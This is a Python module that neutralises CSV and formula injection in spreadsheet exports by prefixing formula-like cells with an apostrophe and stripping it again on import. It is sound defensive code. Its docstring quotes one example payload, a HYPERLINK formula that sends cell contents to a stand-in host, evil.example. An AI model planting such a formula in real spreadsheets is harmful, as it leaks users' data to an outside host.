"""Text a spreadsheet program could run as a formula is written as inert text (CSV / formula injection).

A milestone titled ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` must reach Excel as those characters, not
as a live link that sends the neighbouring cells away. Every export path asks ``formula_like``:

- CSV (tables, the admin, ``export_portfolio``): the cell gets a leading apostrophe, as OWASP recommends;
  the spreadsheet import (``restore``) takes it off again, so an exported file imports back unchanged.
- XLSX (``files.workbook_bytes``): the cell is a text cell with Excel's "quote prefix", its content unchanged.

Numbers stay numbers: ``-12.5`` written as text in a numeric column is not formula-like.
"""

from __future__ import annotations

import re
from typing import Any

import tablib

# What Excel, LibreOffice and Google Sheets take as the start of a formula (or of a DDE payload).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?(?:[eE][+-]?\d+)?")


def formula_like(value: Any) -> bool:
    """Would a spreadsheet program read this text as a formula? (A plain number such as "-12.5" is not one.)"""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value)


def neutralise(value: Any) -> Any:
    """A CSV cell: formula-like text (and text that already starts with the apostrophe) gets an apostrophe."""
    if isinstance(value, str) and (formula_like(value) or value.startswith(ESCAPE)):
        return ESCAPE + value
    return value


def restore(value: Any) -> Any:
    """The import's inverse of ``neutralise``: the apostrophe it added comes off, nothing else changes."""
    if isinstance(value, str) and value.startswith(ESCAPE):
        rest = value[1:]
        if formula_like(rest) or rest.startswith(ESCAPE):
            return rest
    return value


def neutralised_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of ``dataset`` ready to be written as CSV: every cell through ``neutralise``."""
    safe = tablib.Dataset(headers=[neutralise(header) for header in dataset.headers or []] or None)
    safe.title = dataset.title
    for row in dataset:
        safe.append([neutralise(value) for value in row])
    return safe
